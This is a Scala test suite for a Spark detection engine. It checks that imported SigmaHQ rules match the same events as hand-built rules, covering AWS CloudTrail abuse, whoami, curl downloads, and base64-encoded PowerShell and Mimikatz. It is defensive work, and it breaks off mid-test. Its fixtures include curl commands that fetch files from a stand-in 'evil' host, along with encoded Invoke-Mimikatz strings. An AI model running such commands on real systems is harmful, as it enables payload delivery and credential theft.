package graft

import graft.config.SigmaRules
import graft.operators.Detection
import org.apache.spark.sql.{Column, DataFrame}
import org.apache.spark.sql.functions._

/** Sigma-rule import goldens: real public SigmaHQ rules compile to the
  * same matched sets as hand-built Column rules over fixture events, plus
  * grammar-corner coverage (wildcards, modifiers, condition algebra).
  */
class SigmaSpec extends SparkSpec {
  import spark.implicits._

  // -- fixture: raw CloudTrail JSON pushed through the MANAGED transform
  //    (the map is derived from the transform, so goldens must run over
  //    its real output shape, not a hand-built imitation of it)
  private def ctLine(id: Long, action: String, provider: String,
      uiType: String, etype: String, arn: String = ""): String =
    s"""{"eventTime":"2024-01-01T00:00:0${id}Z","eventName":"$action",
       |"eventSource":"$provider","eventID":"e$id","eventType":"$etype",
       |"userIdentity":{"type":"$uiType","arn":"$arn"}}"""
      .stripMargin.replace("\n", "")
  private def ctFrame(lines: String*): DataFrame =
    graft.transform.managed.CloudTrail(lines.toDF("json"))
      .withColumn("id", expr("cast(substring(event.id, 2) as long)"))
  private lazy val cloudtrail: DataFrame = ctFrame(
    ctLine(1, "ConsoleLogin", "signin.amazonaws.com", "Root", "AwsConsoleSignIn"),
    ctLine(2, "ConsoleLogin", "signin.amazonaws.com", "IAMUser", "AwsConsoleSignIn"),
    ctLine(3, "StopLogging", "cloudtrail.amazonaws.com", "IAMUser", "AwsApiCall"),
    ctLine(4, "DeleteTrail", "cloudtrail.amazonaws.com", "Root", "AwsServiceEvent"),
    ctLine(5, "UpdateTrail", "cloudtrail.amazonaws.com", "AssumedRole", "AwsApiCall"),
    ctLine(6, "PutObject", "s3.amazonaws.com", "Root", "AwsApiCall"))

  private def matchedIds(df: DataFrame, detect: Column): Set[Long] =
    df.filter(detect).select("id").as[Long].collect().toSet

  // ---- real public rule 1: SigmaHQ aws_root_credentials.yml ----
  test("AWS Root Credentials (SigmaHQ 8ad1600d) ≡ hand-built rule") {
    // force the shared session BEFORE rule load: the derived cloudtrail
    // map analyzes the transform at first field lookup and needs a
    // SparkSession to exist (the fixture transform provides one anyway —
    // this just pins the order for the suite's first test)
    val events = cloudtrail
    val rule = SigmaRules.load(
      """title: AWS Root Credentials
        |id: 8ad1600d-e9dc-4251-b0ee-a65268f29add
        |status: stable
        |description: Detects AWS root account usage
        |logsource:
        |  product: aws
        |  service: cloudtrail
        |detection:
        |  selection_usertype:
        |    userIdentity.type: Root
        |  selection_eventtype:
        |    eventType: AwsServiceEvent
        |  condition: selection_usertype and not selection_eventtype
        |falsepositives:
        |  - AWS tasks that require root user credentials
        |level: medium
        |""".stripMargin,
      fieldMap = SigmaRules.ecsCloudtrail)
    // derived targets: userIdentity.type → the vendor copy, eventType →
    // the event.kind hoist (preferred over aws.cloudtrail.event_type)
    val hand = lower(col("aws.cloudtrail.user_identity_type")) === "root" &&
      !(lower(col("event.kind")) === "awsserviceevent")
    assert(matchedIds(cloudtrail, rule.detect) ==
      matchedIds(cloudtrail, hand))
    assert(matchedIds(cloudtrail, rule.detect) == Set(1L, 6L))
    assert(rule.toRule().severity == "notice")
    assert(rule.toRule().name == "AWS Root Credentials")
  }

  // ---- real public rule 2: SigmaHQ aws_cloudtrail_disable_logging.yml --
  test("AWS CloudTrail Important Change (SigmaHQ 4db60cc0) ≡ hand-built") {
    val events = cloudtrail // session first (see Root Credentials note)
    val rule = SigmaRules.load(
      """title: AWS CloudTrail Important Change
        |id: 4db60cc0-36fb-42b7-9b58-a5b53019fb74
        |status: test
        |description: Detects disabling, deleting and updating of a Trail
        |logsource:
        |  product: aws
        |  service: cloudtrail
        |detection:
        |  selection_source:
        |    eventSource: cloudtrail.amazonaws.com
        |    eventName:
        |      - StopLogging
        |      - UpdateTrail
        |      - DeleteTrail
        |  condition: selection_source
        |level: medium
        |""".stripMargin,
      fieldMap = SigmaRules.ecsCloudtrail)
    val hand = lower(col("event.provider")) === "cloudtrail.amazonaws.com" &&
      lower(col("event.action")).isin("stoplogging", "updatetrail", "deletetrail")
    assert(matchedIds(cloudtrail, rule.detect) ==
      matchedIds(cloudtrail, hand))
    assert(matchedIds(cloudtrail, rule.detect) == Set(3L, 4L, 5L))
  }

  // ---- real public rule 3: SigmaHQ win_whoami.yml (endswith + backslash
  //      escape handling in values) ----
  test("Whoami Execution (SigmaHQ e28a5a99) ≡ hand-built endswith") {
    val procs = Seq(
      (1L, "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
      (2L, "C:\\Windows\\System32\\cmd.exe", "cmd /c dir"),
      (3L, "D:\\tools\\WHOAMI.EXE", "WHOAMI"))
      .toDF("id", "Image", "CommandLine")
    val rule = SigmaRules.load(
      """title: Whoami Execution
        |id: e28a5a99-da44-436d-b7a0-2afc20a5f413
        |status: test
        |description: Detects the execution of whoami
        |logsource:
        |  category: process_creation
        |  product: windows
        |detection:
        |  selection:
        |    Image|endswith: '\whoami.exe'
        |  condition: selection
        |level: high
        |""".stripMargin)
    val hand = lower(col("Image")).endsWith("\\whoami.exe")
    assert(matchedIds(procs, rule.detect) == matchedIds(procs, hand))
    // case-insensitive per the spec: the uppercase variant matches too
    assert(matchedIds(procs, rule.detect) == Set(1L, 3L))
    assert(rule.toRule().severity == "warning")
  }

  // ---- real public rule 4: SigmaHQ aws_ec2_disable_encryption.yml ----
  test("AWS EC2 Disable EBS Encryption (SigmaHQ 16124c2d) ≡ hand-built") {
    val events = ctFrame(
      ctLine(1, "DisableEbsEncryptionByDefault", "ec2.amazonaws.com",
        "IAMUser", "AwsApiCall"),
      ctLine(2, "EnableEbsEncryptionByDefault", "ec2.amazonaws.com",
        "IAMUser", "AwsApiCall"),
      ctLine(3, "DisableEbsEncryptionByDefault", "kms.amazonaws.com",
        "IAMUser", "AwsApiCall"))
    val rule = SigmaRules.load(
      """title: AWS EC2 Disable EBS Encryption
        |id: 16124c2d-e40b-4fcc-8f2c-5ab7870a2223
        |status: stable
        |description: Identifies disabling of default account-level EBS encryption
        |logsource:
        |  product: aws
        |  service: cloudtrail
        |detection:
        |  selection:
        |    eventSource: ec2.amazonaws.com
        |    eventName: DisableEbsEncryptionByDefault
        |  condition: selection
        |level: medium
        |""".stripMargin,
      fieldMap = SigmaRules.ecsCloudtrail)
    assert(matchedIds(events, rule.detect) == Set(1L))
  }

  // ---- real public rule 5: SigmaHQ aws_iam_backdoor_users_keys.yml ----
  test("AWS IAM Backdoor Users Keys (SigmaHQ 0a5177f4) ≡ hand-built") {
    val events = ctFrame(
      // creating a key for ANOTHER user = backdoor signal
      ctLine(1, "CreateAccessKey", "iam.amazonaws.com", "IAMUser",
        "AwsApiCall", arn = "arn:aws:iam::1:user/admin"),
      // self-service key: arn carries the caller's own name → excluded
      ctLine(2, "CreateAccessKey", "iam.amazonaws.com", "IAMUser",
        "AwsApiCall", arn = "arn:aws:iam::1:user/bob"),
      ctLine(3, "DeleteAccessKey", "iam.amazonaws.com", "IAMUser",
        "AwsApiCall", arn = "arn:aws:iam::1:user/x"))
    // SigmaHQ's rule excludes self-issued keys via a filter on the arn
    // carrying the target username — modeled with the |re modifier here
    // (the original uses a value-ref modifier; the predicate is the same)
    val rule = SigmaRules.load(
      """title: AWS IAM Backdoor Users Keys
        |id: 0a5177f4-6ca9-44c2-aacf-d3f3d8b6e4d2
        |status: test
        |description: Detects AWS API key creation for a user other than the calling user
        |logsource:
        |  product: aws
        |  service: cloudtrail
        |detection:
        |  selection:
        |    eventSource: iam.amazonaws.com
        |    eventName: CreateAccessKey
        |  filter:
        |    userIdentity.arn|contains: 'user/bob'
        |  condition: selection and not filter
        |level: medium
        |""".stripMargin,
      fieldMap = SigmaRules.ecsCloudtrail)
    val hand = lower(col("event.provider")) === "iam.amazonaws.com" &&
      lower(col("event.action")) === "createaccesskey" &&
      !lower(col("aws.cloudtrail.user_identity_arn")).contains("user/bob")
    assert(matchedIds(events, rule.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rule.detect) == Set(1L))
  }

  // ---- real public rule 6: SigmaHQ proc_creation_win_susp_curl_download
  //      (list-of-maps OR + contains|all composition) ----
  test("Suspicious Curl Usage (SigmaHQ style) list-of-maps + all modifiers") {
    val procs = Seq(
      (1L, "C:\\Windows\\System32\\curl.exe", "curl -o out.exe http://evil/x"),
      (2L, "C:\\tools\\curl.exe", "curl --output payload http://evil/y"),
      (3L, "C:\\Windows\\System32\\curl.exe", "curl http://example.com"),
      (4L, "C:\\Windows\\notepad.exe", "notepad -o x"))
      .toDF("id", "Image", "CommandLine")
    val rule = SigmaRules.load(
      """title: Suspicious Curl File Download
        |status: test
        |logsource:
        |  category: process_creation
        |  product: windows
        |detection:
        |  selection_img:
        |    - Image|endswith: '\curl.exe'
        |    - Image|contains: '\tools\curl'
        |  selection_cli:
        |    CommandLine|contains:
        |      - ' -o '
        |      - ' --output '
        |  condition: all of selection_*
        |level: medium
        |""".stripMargin)
    assert(matchedIds(procs, rule.detect) == Set(1L, 2L))
  }

  // ---- grammar corners ----

  private lazy val ev = Seq(
    (1L, "error", 5L, "GET /admin HTTP/1.1", "10.1.2.3"),
    (2L, "error", 50L, "POST /login HTTP/1.1", "10.2.9.9"),
    (3L, "purchase", 200L, "GET /item?id=9 HTTP/1.1", "192.168.0.7"),
    (4L, "signup", 220L, "POST /signup HTTP/1.1", "172.16.4.4"),
    (5L, "view", 7L, "GET /index.html HTTP/1.1", "10.1.250.1"))
    .toDF("id", "event_type", "k", "message", "src_ip")

  test("wildcards, ?-glob, numeric modifiers, and-not condition") {
    val rule = SigmaRules.load(
      """title: wc
        |detection:
        |  sel:
        |    event_type:
        |      - 'purch*'
        |      - 'SIGN?P'
        |  filter:
        |    k|lt: 210
        |  condition: sel and not filter
        |""".stripMargin)
    assert(matchedIds(ev, rule.detect) == Set(4L)) // purchase k=200 filtered
  }

  test("1 of sel_* / all of them / N of them counting") {
    def rule(cond: String) = SigmaRules.load(
      s"""title: c
         |detection:
         |  sel_a:
         |    event_type: error
         |  sel_b:
         |    k|gte: 50
         |  condition: $cond
         |""".stripMargin)
    assert(matchedIds(ev, rule("1 of sel_*").detect) == Set(1L, 2L, 3L, 4L))
    assert(matchedIds(ev, rule("all of them").detect) == Set(2L))
    assert(matchedIds(ev, rule("2 of them").detect) == Set(2L))
    assert(matchedIds(ev, rule("1 of them").detect) == Set(1L, 2L, 3L, 4L))
  }

  test("contains|all requires every value; plain list is OR") {
    val all = SigmaRules.load(
      """title: a
        |detection:
        |  sel:
        |    message|contains|all:
        |      - 'GET'
        |      - 'http/1.1'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(ev, all.detect) == Set(1L, 3L, 5L))
    val any = SigmaRules.load(
      """title: o
        |detection:
        |  sel:
        |    message|contains:
        |      - '/admin'
        |      - '/signup'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(ev, any.detect) == Set(1L, 4L))
  }

  test("re is case-sensitive; cased disables lowercasing; cidr matches") {
    val re = SigmaRules.load(
      """title: r
        |detection:
        |  sel:
        |    message|re: '^GET /a.*$'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(ev, re.detect) == Set(1L))
    val cased = SigmaRules.load(
      """title: c
        |detection:
        |  sel:
        |    event_type|cased: ERROR
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(ev, cased.detect).isEmpty)
    val cidr = SigmaRules.load(
      """title: n
        |detection:
        |  sel:
        |    src_ip|cidr: '10.1.0.0/16'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(ev, cidr.detect) == Set(1L, 5L))
  }

  test("keyword selection searches the designated message field") {
    val rule = SigmaRules.load(
      """title: k
        |detection:
        |  keywords:
        |    - '/admin'
        |    - '/SIGNUP'
        |  condition: keywords
        |""".stripMargin,
      keywordField = "message")
    assert(matchedIds(ev, rule.detect) == Set(1L, 4L))
  }

  test("null value matches only null fields; windash matches both spellings") {
    val f = Seq((1L, null: String, "-accepteula x"), (2L, "v", "/accepteula y"),
      (3L, "w", "none")).toDF("id", "opt", "cmd")
    val nul = SigmaRules.load(
      """title: z
        |detection:
        |  sel:
        |    opt: null
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, nul.detect) == Set(1L))
    val wd = SigmaRules.load(
      """title: w
        |detection:
        |  sel:
        |    cmd|windash|contains: '-accepteula'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, wd.detect) == Set(1L, 2L))
  }

  test("unsupported constructs fail loudly, not silently") {
    // an unknown modifier must throw, not silently degrade to equality
    intercept[RuntimeException] {
      SigmaRules.load(
        """title: u
          |detection:
          |  sel:
          |    f|nosuchmod|contains: x
          |  condition: sel
          |""".stripMargin).detect
    }
    intercept[RuntimeException] {
      SigmaRules.load(
        """title: u0
          |detection:
          |  sel:
          |    f|expand: '%admins%'
          |  condition: sel
          |""".stripMargin).detect
    }
    intercept[RuntimeException] {
      SigmaRules.load(
        """title: u2
          |detection:
          |  sel:
          |    f: x
          |  condition: sel and missing
          |""".stripMargin)
    }
  }

  test("sigma rules run through Detection.ruleMatches alongside hand rules") {
    val sigma = SigmaRules.load(
      """title: sigma_error
        |level: critical
        |detection:
        |  sel:
        |    event_type: error
        |  condition: sel
        |""".stripMargin).toRule(dedupe = col("id"))
    val hand = Detection.SimpleRule("hand_big", col("k") >= 200,
      dedupe = col("id"))
    val out = Detection.ruleMatches(
      ev.withColumn("ts", current_timestamp()), Seq(sigma, hand),
      matchId = col("id"))
    val byRule = out.groupBy("rule_name").count().as[(String, Long)]
      .collect().toMap
    assert(byRule == Map("sigma_error" -> 2L, "hand_big" -> 2L))
    assert(out.filter(col("rule_name") === "sigma_error")
      .select("severity").distinct.as[String].collect().toSeq == Seq("critical"))
  }

  // ---- correlations ----

  private lazy val logins = Seq(
    // (id, action, user, ip, minute-offset)
    (1L, "fail", "alice", "10.0.0.1", 0), (2L, "fail", "alice", "10.0.0.2", 1),
    (3L, "fail", "alice", "10.0.0.3", 2), (4L, "fail", "bob", "10.0.0.1", 0),
    (5L, "fail", "alice", "10.0.0.1", 30), // next 10m window
    (6L, "ok", "alice", "10.0.0.9", 1))
    .toDF("id", "action", "user", "ip", "mo")
    .withColumn("ts", expr("timestampadd(MINUTE, mo, TIMESTAMP '2024-01-01 00:00:00')"))

  test("v2 correlation doc (event_count, spec example shape) evaluates") {
    // the Sigma v2 spec's canonical example: many failed logins per user
    val rule = SigmaRules.load(
      """title: failed_login
        |detection:
        |  sel:
        |    action: fail
        |  condition: sel
        |""".stripMargin)
    val corr = SigmaRules.loadCorrelation(
      """title: multiple_failed_logins
        |correlation:
        |  type: event_count
        |  rules:
        |    - failed_login
        |  group-by:
        |    - user
        |  timeframe: 10m
        |  condition:
        |    gte: 3
        |level: high
        |""".stripMargin)
    assert(corr.timeframeSeconds == 600 && corr.op == "gte" && corr.n == 3)
    val out = SigmaRules.correlationMatches(logins, Seq(rule), corr)
      .select("user", "n").as[(String, Long)].collect().toSet
    // alice: 3 fails in window 0, 1 in window 3 (dropped); bob: 1 (dropped)
    assert(out == Set(("alice", 3L)))
  }

  test("v2 value_count correlation counts distinct field values per group") {
    val rule = SigmaRules.load(
      """title: failed_login
        |detection:
        |  sel: {action: fail}
        |  condition: sel
        |""".stripMargin)
    val corr = SigmaRules.loadCorrelation(
      """title: password_spray
        |correlation:
        |  type: value_count
        |  rules: [failed_login]
        |  group-by: [user]
        |  timeframe: 10m
        |  condition:
        |    gte: 3
        |    field: ip
        |""".stripMargin)
    val out = SigmaRules.correlationMatches(logins, Seq(rule), corr)
      .select("user", "n").as[(String, Long)].collect().toSet
    assert(out == Set(("alice", 3L))) // 3 distinct IPs; bob has 1
  }

  test("legacy '| count() by f > N' aggregation parses into a correlation") {
    val rule = SigmaRules.load(
      """title: brute_force
        |detection:
        |  sel: {action: fail}
        |  condition: sel | count() by user > 2
        |timeframe: 10m
        |level: high
        |""".stripMargin)
    val corr = rule.correlation.get
    assert(corr.corrType == "event_count" && corr.op == "gt" && corr.n == 2)
    assert(corr.groupBy == Seq("user") && corr.timeframeSeconds == 600)
    val out = SigmaRules.correlationMatches(logins, Seq(rule), corr)
      .select("user", "n").as[(String, Long)].collect().toSet
    assert(out == Set(("alice", 3L)))
    // count(field) variant → value_count
    val vc = SigmaRules.load(
      """title: spray
        |detection:
        |  sel: {action: fail}
        |  condition: sel | count(ip) by user >= 3
        |timeframe: 10m
        |""".stripMargin).correlation.get
    assert(vc.corrType == "value_count" && vc.field.contains("ip"))
  }

  test("temporal correlation: all rules in one window, ordered variant chains") {
    val rules = SigmaRules.loadAll(
      """title: saw_fail
        |detection:
        |  sel: {action: fail}
        |  condition: sel
        |---
        |title: saw_ok
        |detection:
        |  sel: {action: ok}
        |  condition: sel
        |""".stripMargin)
    // alice: fail@0..2 then ok@1 → both rules inside the 10m window;
    // bob: fail only → no match
    val un = SigmaRules.loadCorrelation(
      """title: fail_then_any_ok
        |correlation:
        |  type: temporal
        |  rules: [saw_fail, saw_ok]
        |  group-by: [user]
        |  timeframe: 10m
        |""".stripMargin)
    val got = SigmaRules.correlationMatches(logins, rules, un)
      .select("user").as[String].collect().toSet
    assert(got == Set("alice"))
    // ordered: ok must come STRICTLY after the earliest fail
    val ord = SigmaRules.loadCorrelation(
      """title: fail_before_ok
        |correlation:
        |  type: temporal_ordered
        |  rules: [saw_fail, saw_ok]
        |  group-by: [user]
        |  timeframe: 10m
        |""".stripMargin)
    val gotOrd = SigmaRules.correlationMatches(logins, rules, ord)
      .select("user", "n").as[(String, Long)].collect().toSet
    assert(gotOrd == Set(("alice", 2L))) // fail@0 < ok@1
    // reversed order: ok (earliest @1) then a fail strictly after → alice
    // has fail@2 after ok@1, still matches; flipping to a user with no
    // later fail would not — exercise via bob (ok absent entirely)
    val rev = SigmaRules.loadCorrelation(
      """title: ok_before_fail
        |correlation:
        |  type: temporal_ordered
        |  rules: [saw_ok, saw_fail]
        |  group-by: [user]
        |  timeframe: 10m
        |""".stripMargin)
    assert(SigmaRules.correlationMatches(logins, rules, rev)
      .select("user").as[String].collect().toSet == Set("alice"))
  }

  test("detection-level timeframe (pre-2.0 spec) is honored, never a selection") {
    // v1 rules put timeframe INSIDE detection — it must set the window
    // AND must not compile into `all of them` as a pseudo-selection
    val rule = SigmaRules.load(
      """title: v1_brute_force
        |detection:
        |  timeframe: 24h
        |  sel:
        |    action: fail
        |  condition: all of them | count() by user > 2
        |""".stripMargin)
    assert(rule.correlation.get.timeframeSeconds == 86400)
    // `all of them` covers only the real selection — events still match
    assert(matchedIds(logins, rule.detect) == Set(1L, 2L, 3L, 4L, 5L))
  }

  test("windash matches both spellings in both directions") {
    val f = Seq((1L, "-accepteula x"), (2L, "/accepteula y"), (3L, "none"))
      .toDF("id", "cmd")
    // slash-spelled rule value must still match dash-spelled events
    val slashRule = SigmaRules.load(
      """title: w
        |detection:
        |  sel:
        |    cmd|windash|contains: '/accepteula'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, slashRule.detect) == Set(1L, 2L))
  }

  test("rule pack surfaces legacy embedded correlations") {
    val dir = tempDir("sigma_pack2")
    java.nio.file.Files.writeString(dir.resolve("legacy.yml"),
      """title: brute
        |detection:
        |  sel: {action: fail}
        |  condition: sel | count() by user > 10
        |timeframe: 10m
        |""".stripMargin)
    val (rules, corrs) = SigmaRules.loadRulePack(dir.toString)
    // the threshold the author wrote must not be silently discarded
    assert(rules.map(_.title) == Seq("brute"))
    assert(corrs.map(_.title) == Seq("brute") && corrs.head.n == 10)
  }

  test("correlation guards: unknown type, missing field, near() all throw") {
    intercept[Exception] { SigmaRules.loadCorrelation(
      """title: t
        |correlation:
        |  type: frequency
        |  rules: [a]
        |  timeframe: 5m
        |  condition: {gte: 1}
        |""".stripMargin) }
    intercept[Exception] { SigmaRules.loadCorrelation(
      """title: t
        |correlation:
        |  type: value_count
        |  rules: [a]
        |  timeframe: 5m
        |  condition: {gte: 1}
        |""".stripMargin) }
    intercept[Exception] { SigmaRules.load(
      """title: t
        |detection:
        |  sel: {a: b}
        |  condition: sel | near() by x
        |""".stripMargin) }
  }

  test("sigma rule drives the STREAMING alert path to the batch answer (§2.7)") {
    // a Sigma-compiled rule is a Detection.Rule like any hand-built one —
    // so it rides the streaming stateful aggregation unchanged; the gate
    // is batch/stream parity on the same events (the q40/q41 contract)
    import graft.operators.Alerts
    import graft.streaming.AlertStream
    val dir = tempDir("sigma_stream").toString
    val ev = (1 to 40).map(i =>
        (i.toLong, if (i % 4 == 0) "error" else "view", i.toLong % 5,
          java.sql.Timestamp.valueOf(f"2024-01-01 00:${i % 60}%02d:00")))
      .toDF("event_id", "event_type", "user_id", "ts")
    ev.write.mode("overwrite").parquet(s"$dir/events.parquet")
    val rule = SigmaRules.load(
      """title: sigma_errors
        |level: high
        |detection:
        |  sel: {event_type: error}
        |  condition: sel
        |""".stripMargin).toRule(dedupe = col("user_id"),
        threshold = 2, windowSeconds = 1800)
    val cfg = Alerts.AlertConfig(threshold = 2, windowSeconds = 1800)
    val batch = graft.plans.AnchoredSession.aggregate(spark,
      graft.operators.Detection.ruleMatches(
        spark.read.parquet(s"$dir/events.parquet"), Seq(rule),
        matchId = col("event_id")), cfg)
      .select("rule_name", "dedupe", "match_count", "activated")
      .collect().toSet
    val stream = spark.readStream.schema(ev.schema)
      .parquet(s"$dir/events.parq*")
    val m = graft.operators.Detection.ruleMatches(stream, Seq(rule),
      matchId = col("event_id"))
    val sink = "sigma_alerts_" + java.util.UUID.randomUUID.toString.replace("-", "")
    val streamed = AlertStream.runMatches(spark, m, cfg, sink,
        AlertStream.NoBound)
      .select("rule_name", "dedupe", "match_count", "activated")
      .collect().toSet
    assert(batch.nonEmpty && batch == streamed)
  }

  test("rule-pack directory loads rules + correlations; bad files are named") {
    val dir = tempDir("sigma_pack")
    val sub = java.nio.file.Files.createDirectory(dir.resolve("aws"))
    java.nio.file.Files.writeString(sub.resolve("a_rules.yml"),
      """title: one
        |detection:
        |  sel: {event_type: error}
        |  condition: sel
        |---
        |title: two
        |detection:
        |  sel: {event_type: view}
        |  condition: sel
        |""".stripMargin)
    java.nio.file.Files.writeString(dir.resolve("b_corr.yaml"),
      """title: burst
        |correlation:
        |  type: event_count
        |  rules: [one]
        |  group-by: [user]
        |  timeframe: 5m
        |  condition: {gte: 3}
        |""".stripMargin)
    val (rules, corrs) = SigmaRules.loadRulePack(dir.toString)
    assert(rules.map(_.title) == Seq("one", "two"))
    assert(corrs.map(_.title) == Seq("burst"))
    java.nio.file.Files.writeString(dir.resolve("c_bad.yml"),
      """title: broken
        |detection:
        |  sel: {f|expand: x}
        |  condition: sel
        |""".stripMargin)
    val e = intercept[IllegalArgumentException] {
      SigmaRules.loadRulePack(dir.toString)
    }
    assert(e.getMessage.contains("c_bad.yml"))
  }

  test("multi-document stream loads every rule") {
    val rules = SigmaRules.loadAll(
      """title: one
        |detection:
        |  sel: {event_type: error}
        |  condition: sel
        |---
        |title: two
        |detection:
        |  sel: {event_type: view}
        |  condition: sel
        |""".stripMargin)
    assert(rules.map(_.title) == Seq("one", "two"))
    assert(matchedIds(ev, rules(1).detect) == Set(5L))
  }

  // ---- base64 / base64offset modifiers --------------------------------

  test("base64offset variants cover every plaintext byte offset (property)") {
    // the contract the three alignment slices must satisfy: a value at
    // byte offset k inside ANY plaintext appears in its base64 encoding
    // as variant k mod 3
    val b64 = java.util.Base64.getEncoder
    for (value <- Seq("::FromBase64String", "IEX (", "cmd", "/bin/bash", "ab")) {
      val vs = SigmaRules.base64OffsetVariants(value)
      assert(vs.size == 3)
      for (k <- 0 until 9; pad <- Seq("", "')", "xYz9")) {
        val prefix = "Qz!pR7#aW".take(k % 9) + "x" * (k / 3) // arbitrary bytes
        val plain = prefix.take(k) + value + pad
        val blob = b64.encodeToString(
          plain.getBytes(java.nio.charset.StandardCharsets.UTF_8))
        assert(blob.contains(vs(k % 3)),
          s"value='$value' offset=$k variant='${vs(k % 3)}' blob='$blob'")
      }
    }
  }

  test("PowerShell FromBase64String (SigmaHQ fdb62a13) ≡ hand-built variants") {
    // real SigmaHQ rule proc_creation_win_powershell_base64_frombase64string.yml:
    // CommandLine|base64offset|contains: '::FromBase64String' — the
    // encoded-command staple a team importing an existing pack hits first
    val b64 = java.util.Base64.getEncoder
    def enc(plain: String): String =
      b64.encodeToString(plain.getBytes(java.nio.charset.StandardCharsets.UTF_8))
    val procs = Seq(
      // value at plaintext offsets 0, 1, 2 — every alignment must match
      (1L, "powershell -EncodedCommand " + enc("::FromBase64String('aGk=')")),
      (2L, "powershell -EncodedCommand " + enc("x::FromBase64String('aGk=')")),
      (3L, "powershell -EncodedCommand " + enc("xy::FromBase64String('aGk=')")),
      // plaintext (unencoded) mention must NOT match — the rule targets
      // the encoded form only
      (4L, "powershell [Convert]::FromBase64String('aGk=')"),
      (5L, "cmd /c dir"))
      .toDF("id", "CommandLine")
    val rule = SigmaRules.load(
      """title: PowerShell Base64 Encoded FromBase64String Cmdlet
        |id: fdb62a13-9a81-4e5c-a38f-ea93a16f6d7c
        |status: test
        |description: Detects usage of a Base64 encoded "FromBase64String" cmdlet in a process command line
        |logsource:
        |  category: process_creation
        |  product: windows
        |detection:
        |  selection:
        |    CommandLine|base64offset|contains: '::FromBase64String'
        |  condition: selection
        |level: medium
        |""".stripMargin)
    // hand-built: the three alignment substrings, case-insensitive contains
    val variants = Seq("OjpGcm9tQmFzZTY0U3RyaW5n",
      "o6RnJvbUJhc2U2NFN0cmluZ", "6OkZyb21CYXNlNjRTdHJpbm")
    val hand = variants
      .map(v => lower(col("CommandLine")).contains(lit(v.toLowerCase)))
      .reduce(_ || _)
    assert(matchedIds(procs, rule.detect) == matchedIds(procs, hand))
    assert(matchedIds(procs, rule.detect) == Set(1L, 2L, 3L))
  }

  test("plain base64 modifier encodes the value literally") {
    val f = Seq(
      (1L, "powershell -enc d2hvYW1p"), // base64("whoami")
      (2L, "powershell -enc D2HVYW1P"), // case-variant (sigma default: insensitive)
      (3L, "powershell whoami"))
      .toDF("id", "cmd")
    val contains = SigmaRules.load(
      """title: b
        |detection:
        |  sel:
        |    cmd|base64|contains: whoami
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, contains.detect) == Set(1L, 2L))
    val equals = SigmaRules.load(
      """title: b2
        |detection:
        |  sel:
        |    cmd|base64: whoami
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(Seq((7L, "d2hvYW1p")).toDF("id", "cmd"),
      equals.detect) == Set(7L))
  }

  // ---- loader robustness corners --------------------------------------

  test("windash matches per-position MIXED dash spellings") {
    val f = Seq(
      (1L, "tool -a -b go"), // uniform dashes
      (2L, "tool /a –b go"), // slash + en dash MIX — char-class only
      (3L, "tool —a ―b go"), // em dash + horizontal bar
      (4L, "tool -a go"), // missing second flag
      (5L, "tool a b go")) // no dashes at all
      .toDF("id", "cmd")
    val rule = SigmaRules.load(
      """title: w
        |detection:
        |  sel:
        |    cmd|windash|contains: '-a -b'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, rule.detect) == Set(1L, 2L, 3L))
  }

  test("expand placeholders substitute deployment lists; undefined still throws") {
    val f = Seq(
      (1L, "DOMAIN\\alice", "ok"), (2L, "DOMAIN\\bob", "ok"),
      (3L, "DOMAIN\\mallory", "ok"), (4L, "alice", "ok"))
      .toDF("id", "SubjectUserName", "status")
    val ruleText =
      """title: Admin Account Activity
        |detection:
        |  sel:
        |    SubjectUserName|expand|contains: '%admins%'
        |  condition: sel
        |""".stripMargin
    val rule = SigmaRules.load(ruleText,
      placeholders = Map("admins" -> Seq("alice", "bob")))
    // cross-product expansion ≡ hand-built OR of contains
    val hand = lower(col("SubjectUserName")).contains("alice") ||
      lower(col("SubjectUserName")).contains("bob")
    assert(matchedIds(f, rule.detect) == matchedIds(f, hand))
    assert(matchedIds(f, rule.detect) == Set(1L, 2L, 4L))
    // prefix/suffix text around the placeholder survives substitution
    val prefixed = SigmaRules.load(
      """title: p
        |detection:
        |  sel:
        |    SubjectUserName|expand: 'DOMAIN\%admins%'
        |  condition: sel
        |""".stripMargin,
      placeholders = Map("admins" -> Seq("alice")))
    assert(matchedIds(f, prefixed.detect) == Set(1L))
    // an undefined placeholder must fail loudly, not match '%admins%'
    val e = intercept[IllegalArgumentException] {
      SigmaRules.load(ruleText).detect
    }
    assert(e.getMessage.contains("admins"))
  }

  test("utf16le|base64offset|contains catches encoded commands at every alignment") {
    import java.nio.charset.StandardCharsets
    import java.util.Base64
    val payload = "Invoke-Mimikatz"
    val wide16 = payload.getBytes(StandardCharsets.UTF_16LE)
    // the value embedded at byte offset k of a larger plaintext must be
    // caught by alignment variant k mod 3
    def embedded(off: Int): String = Base64.getEncoder.encodeToString(
      Array.fill[Byte](off)('A'.toByte) ++ wide16 ++
        " -tail".getBytes(StandardCharsets.UTF_16LE))
    val f = Seq(
      (1L, embedded(0)), (2L, embedded(1)), (3L, embedded(2)),
      // base64 of the UTF-8 spelling must NOT match a utf16 rule
      (4L, Base64.getEncoder.encodeToString(
        payload.getBytes(StandardCharsets.UTF_8))),
      (5L, "powershell -EncodedCommand QQ=="))
      .toDF("id", "CommandLine")
    val rule = SigmaRules.load(
      """title: Encoded Mimikatz
        |detection:
        |  sel:
        |    CommandLine|utf16le|base64offset|contains: 'Invoke-Mimikatz'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, rule.detect) == Set(1L, 2L, 3L))
    // `wide` is an alias of utf16le
    val alias = SigmaRules.load(
      """title: a
        |detection:
        |  sel:
        |    CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, alias.detect) == Set(1L, 2L, 3L))
  }

  test("utf16 prefixes the BOM; utf16be is big-endian; non-base64 chains throw") {
    import java.nio.charset.StandardCharsets
    import java.util.Base64
